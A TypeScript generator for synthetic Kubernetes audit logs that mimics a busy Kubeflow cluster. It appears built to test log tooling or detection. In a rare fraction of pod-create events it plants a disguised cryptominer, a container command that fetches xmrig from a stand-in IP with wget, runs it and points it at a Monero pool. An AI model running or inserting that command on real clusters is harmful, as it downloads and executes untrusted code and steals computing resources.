/**
 * Writes a synthetic Kubernetes audit log of a given size, from a seed, with the event mix of a
 * busy Kubeflow cluster's log: mostly get, list and watch at Metadata level (controllers and
 * kubelets), lease and endpoint updates, and a share of pod creates that carry whole pod specs at
 * RequestResponse level, plus every stage (RequestReceived, ResponseStarted for watches).
 * Sizes follow the falco and audit2rbac samples in ../shared/schemas/audit (≈0.6-1 KB metadata
 * events, 3-6 KB for a create with its object), and so does the field order (the API server's).
 */
import { createWriteStream } from 'node:fs';
import { once } from 'node:events';

function mulberry32(seed: number): () => number {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

const CONTROLLERS = ['system:serviceaccount:kube-system:replicaset-controller', 'system:kube-controller-manager', 'system:node:gpu-node-3', 'system:serviceaccount:kubeflow:ml-pipeline-persistenceagent', 'system:serviceaccount:kubeflow:argo', 'system:serviceaccount:kubeflow:ml-pipeline'];
const RESOURCES = ['pods', 'configmaps', 'secrets', 'leases', 'endpoints', 'workflows', 'events', 'nodes'];

export async function writeAuditLog(file: string, bytes: number, seed = 12): Promise<{ events: number }> {
  const random = mulberry32(seed);
  const pick = <T>(items: readonly T[]): T => items[Math.floor(random() * items.length)] as T;
  const out = createWriteStream(file);
  let written = 0;
  let events = 0;
  let time = Date.parse('2026-01-05T00:00:00Z');
  while (written < bytes) {
    events++;
    time += Math.floor(random() * 20);
    const at = new Date(time).toISOString().replace('Z', '000Z');
    const id = `${(events * 2654435761 >>> 0).toString(16).padStart(8, '0')}-1b2c-4d3e-8f40-${events.toString(16).padStart(12, '0')}`;
    const roll = random();
    const namespace = `kubeflow-user-${Math.floor(random() * 40)}`;
    const user = pick(CONTROLLERS);
    const base = {
      kind: 'Event',
      apiVersion: 'audit.k8s.io/v1',
      auditID: id,
      sourceIPs: [`10.0.${Math.floor(random() * 255)}.${Math.floor(random() * 255)}`],
      userAgent: 'kube-controller-manager/v1.30.2 (linux/amd64) kubernetes/39683505/system:serviceaccount:kube-system:generic-garbage-collector',
      user: { username: user, groups: ['system:serviceaccounts', 'system:authenticated'] },
      requestReceivedTimestamp: at,
      stageTimestamp: at,
      annotations: { 'authorization.k8s.io/decision': 'allow', 'authorization.k8s.io/reason': 'RBAC: allowed by ClusterRoleBinding "system:controller:generic-garbage-collector" of ClusterRole "system:controller:generic-garbage-collector" to ServiceAccount "generic-garbage-collector/kube-system"' },
    };
    let event: Record<string, unknown>;
    if (roll < 0.72) {
      const verb = pick(['get', 'list', 'watch', 'get', 'list']);
      const resource = pick(RESOURCES);
      event = { ...base, level: 'Metadata', stage: verb === 'watch' && random() < 0.5 ? 'ResponseStarted' : 'ResponseComplete', requestURI: `/api/v1/namespaces/${namespace}/${resource}?resourceVersion=${events}&timeout=7m`, verb, objectRef: { resource, namespace, apiVersion: 'v1' }, responseStatus: { metadata: {}, code: 200 } };
    } else if (roll < 0.8) {
      event = { ...base, level: 'Metadata', stage: 'RequestReceived', requestURI: `/api/v1/namespaces/${namespace}/pods`, verb: 'create', objectRef: { resource: 'pods', namespace, apiVersion: 'v1' } };
    } else if (roll < 0.9) {
      const name = `lease-${Math.floor(random() * 500)}`;
      event = { ...base, level: 'RequestResponse', stage: 'ResponseComplete', requestURI: `/apis/coordination.k8s.io/v1/namespaces/kube-node-lease/leases/${name}`, verb: 'update', objectRef: { resource: 'leases', namespace: 'kube-node-lease', name, apiGroup: 'coordination.k8s.io', apiVersion: 'v1' }, responseStatus: { metadata: {}, code: 200 }, requestObject: { kind: 'Lease', apiVersion: 'coordination.k8s.io/v1', metadata: { name, namespace: 'kube-node-lease', resourceVersion: String(events), managedFields: [{ manager: 'kubelet', operation: 'Update', apiVersion: 'coordination.k8s.io/v1', time: at, fieldsType: 'FieldsV1', fieldsV1: { 'f:spec': { 'f:holderIdentity': {}, 'f:leaseDurationSeconds': {}, 'f:renewTime': {} } } }] }, spec: { holderIdentity: name, leaseDurationSeconds: 40, renewTime: at } } };
    } else {
      const name = `train-pipeline-${events.toString(36)}-system-container-impl`;
      const miner = random() < 0.001;
      const pod = {
        kind: 'Pod',
        apiVersion: 'v1',
        metadata: { name, namespace, labels: { 'workflows.argoproj.io/workflow': `train-pipeline-${events.toString(36)}`, 'pipelines.kubeflow.org/v2_component': 'true', 'workflows.argoproj.io/completed': 'false' }, annotations: { 'workflows.argoproj.io/node-name': 'train-pipeline.root.train', 'pipelines.kubeflow.org/v2_pipeline': 'true' }, ownerReferences: [{ apiVersion: 'argoproj.io/v1alpha1', kind: 'Workflow', name: 'train-pipeline', uid: id, controller: true, blockOwnerDeletion: true }] },
        spec: {
          serviceAccountName: 'default-editor',
          volumes: [{ name: 'var-run-argo', emptyDir: {} }, { name: 'kube-api-access', projected: { sources: [{ serviceAccountToken: { expirationSeconds: 3607, path: 'token' } }] } }],
          initContainers: [{ name: 'init', image: 'quay.io/argoproj/argoexec:v3.4.17', command: ['argoexec', 'init', '--loglevel', 'info', '--log-format', 'text'], env: [{ name: 'ARGO_POD_NAME', valueFrom: { fieldRef: { apiVersion: 'v1', fieldPath: 'metadata.name' } } }], resources: { requests: { cpu: '10m', memory: '64Mi' } }, volumeMounts: [{ name: 'var-run-argo', mountPath: '/var/run/argo' }] }],
          containers: [
            { name: 'wait', image: 'quay.io/argoproj/argoexec:v3.4.17', command: ['argoexec', 'wait', '--loglevel', 'info'], resources: { requests: { cpu: '10m', memory: '64Mi' } } },
            {
              name: 'main',
              image: miner ? 'tensorflow/tensorflow:latest-gpu' : 'python:3.9',
              command: ['/var/run/argo/argoexec', 'emissary', '--', 'sh', '-c'],
              args: [miner ? 'wget -q http://198.51.100.9/x/xmrig -O /tmp/tf && chmod +x /tmp/tf && /tmp/tf -o stratum+tcp://pool.supportxmr.com:443' : "python3 -m pip install --quiet kfp==2.7.0 && python3 -m kfp.dsl.executor_main --component_module_path /tmp/ephemeral_component.py --executor_input '{\"inputs\":{\"parameterValues\":{\"epochs\":3}}}'"],
              env: [{ name: 'ML_PIPELINE_SERVICE_HOST', value: 'ml-pipeline.kubeflow.svc.cluster.local' }, { name: 'KFP_POD_NAME', valueFrom: { fieldRef: { fieldPath: 'metadata.name' } } }],
              resources: { limits: { cpu: '2', memory: '4Gi', 'nvidia.com/gpu': '1' } },
              volumeMounts: [{ name: 'var-run-argo', mountPath: '/var/run/argo' }],
            },
          ],
          restartPolicy: 'Never',
        },
      };
      event = { ...base, user: { username: 'system:serviceaccount:kubeflow:argo', groups: ['system:serviceaccounts', 'system:authenticated'] }, level: 'RequestResponse', stage: 'ResponseComplete', requestURI: `/api/v1/namespaces/${namespace}/pods`, verb: 'create', objectRef: { resource: 'pods', namespace, name, apiVersion: 'v1' }, responseStatus: { metadata: {}, code: 201 }, requestObject: pod, responseObject: { ...pod, status: { phase: 'Pending', qosClass: 'Burstable' } } };
    }
    const line = `${JSON.stringify(inApiServerOrder(event))}\n`;
    written += Buffer.byteLength(line);
    if (!out.write(line)) await once(out, 'drain');
  }
  out.end();
  await once(out, 'finish');
  return { events };
}

/** The API server writes an Event's fields in its Go struct's order (k8s.io/apiserver pkg/apis/audit/v1). */
const FIELD_ORDER = ['kind', 'apiVersion', 'level', 'auditID', 'stage', 'requestURI', 'verb', 'user', 'impersonatedUser', 'sourceIPs', 'userAgent', 'objectRef', 'responseStatus', 'requestObject', 'responseObject', 'requestReceivedTimestamp', 'stageTimestamp', 'annotations'];

function inApiServerOrder(event: Record<string, unknown>): Record<string, unknown> {
  return Object.fromEntries(FIELD_ORDER.filter((key) => key in event).map((key) => [key, event[key]]));
}

if (process.argv[1]?.endsWith('audit-log-gen.ts')) {
  const [file, mb] = process.argv.slice(2);
  if (!file) throw new Error('usage: audit-log-gen.ts FILE [MB]');
  console.log(await writeAuditLog(file, Number(mb ?? 100) * 1024 * 1024));
}
